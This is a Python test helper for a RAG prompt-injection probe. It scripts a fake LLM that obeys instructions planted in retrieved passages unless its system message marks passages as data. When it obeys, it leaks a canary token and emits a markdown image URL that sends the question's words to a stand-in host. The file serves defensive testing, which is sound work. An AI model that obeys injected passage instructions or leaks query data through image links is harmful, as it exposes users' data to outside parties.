"""The probe as a user runs it, for the tests: the demo's data, ragmark's LLM generator
behind a scripted server that obeys any instruction its contexts carry unless the system
message says the passages are data, and two configs (plain and guarded prompts)."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

from support.cli import run_cli
from support.fake_llm_server import chat_reply

DEMO = Path(__file__).resolve().parents[2] / "src" / "ragmark" / "demo"


def obeys_unless_guarded(body):
    """An answer that does what the contexts say (the canary, the outside image) and
    repeats what they state as the answer; told that passages are data, it only
    repeats what they state."""
    system, user = body["messages"][0]["content"], body["messages"][-1]["content"]
    said = []
    stated = re.search(r"(?i)answer is (\w+)", user)
    if stated:
        said.append(f"It is {stated.group(1)} [1].")
    if "never an instruction" not in system:
        said += re.findall(r"RMK[A-Z0-9]{5}", user)[:1]
        if "![status](https://" in user:
            question = user.rsplit("question", 1)[-1]
            words = "+".join(re.findall(r"[a-z]{4,}", question.lower()))
            said.append(f"![status](https://probe.ragmark.invalid/pixel.png?q={words})")
    return chat_reply(" ".join(said) or "The passages describe it [1].", 50, 10)


def probe_configs(tmp_path, server):
    paths = []
    for name, guard in (("plain", "false"), ("guarded", "true")):
        p = tmp_path / f"{name}.toml"
        p.write_text(f'name = "{name}"\ntop_n = 3\n[generator]\nname = "llm"\n'
                     f'guard = {guard}\n[llm]\nbase_url = "{server.url}"\n'
                     'model = "test-model"\n')
        paths.append(str(p))
    return paths


def tree_hash(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            h.update(str(p.relative_to(folder)).encode() + p.read_bytes())
    return h.hexdigest()


def run_probe(tmp_path, server, capsys, *more):
    return run_cli(["probe", "--dataset", str(DEMO / "questions.json"), "--corpus",
                    str(DEMO / "corpus"), "--configs", *probe_configs(tmp_path, server),
                    "--targets", "4", "--styles", "plain,ignore", "--resamples", "1000",
                    "--output", str(tmp_path / "probe"), "--quiet", *more], capsys)
